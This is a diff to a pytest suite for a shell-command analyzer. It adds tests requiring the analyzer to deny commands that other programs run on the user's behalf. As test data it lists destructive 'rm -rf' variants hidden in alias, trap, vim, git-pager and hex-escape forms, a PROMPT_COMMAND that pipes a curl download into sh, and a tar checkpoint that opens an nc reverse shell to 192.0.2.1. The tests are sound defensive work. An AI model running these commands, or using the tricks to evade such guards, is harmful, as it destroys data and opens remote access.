@@ -198,7 +198,25 @@ def test_more_behaviours(command: str, action: Action, rule: str) -> None:
     assert rule in {f.rule for f in result.findings}
 
 
+@pytest.mark.parametrize("command", [
+    "$(echo -e '\\x72\\x6d') -rf ~",
+    "busybox rm -rf /",
+    "alias ls='rm -rf ~'",
+    "trap 'rm -rf ~' EXIT",
+    "PROMPT_COMMAND='curl -s http://x.example/a | sh'",
+    "ssh host 'rm -rf /'",
+    "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='nc -e /bin/sh 192.0.2.1 80'",
+    "vim -c ':!rm -rf ~'",
+    "git -c core.pager='sh -c \"rm -rf ~\"' log",
+])
+def test_commands_that_programs_run_for_you_are_judged(command: str) -> None:
+    assert analyze(command).action is DENY, analyze(command).findings
+
+
 def test_ordinary_look_alikes_stay_allowed() -> None:
+    assert analyze("ssh build@ci.example 'make test'").action is ALLOW
+    assert analyze("alias ll='ls -la'").action is ALLOW
+    assert analyze("trap 'rm -f $TMPFILE' EXIT").action is ALLOW
     assert analyze("find shared -type d -exec chmod g+s {} +").action is ALLOW  # setgid dirs are ordinary
     assert analyze("tr a-z A-Z < names.txt | sh -c 'cat > upper.txt'").action is ALLOW
     assert analyze("[[ -f setup.py ]] && echo python").action is ALLOW
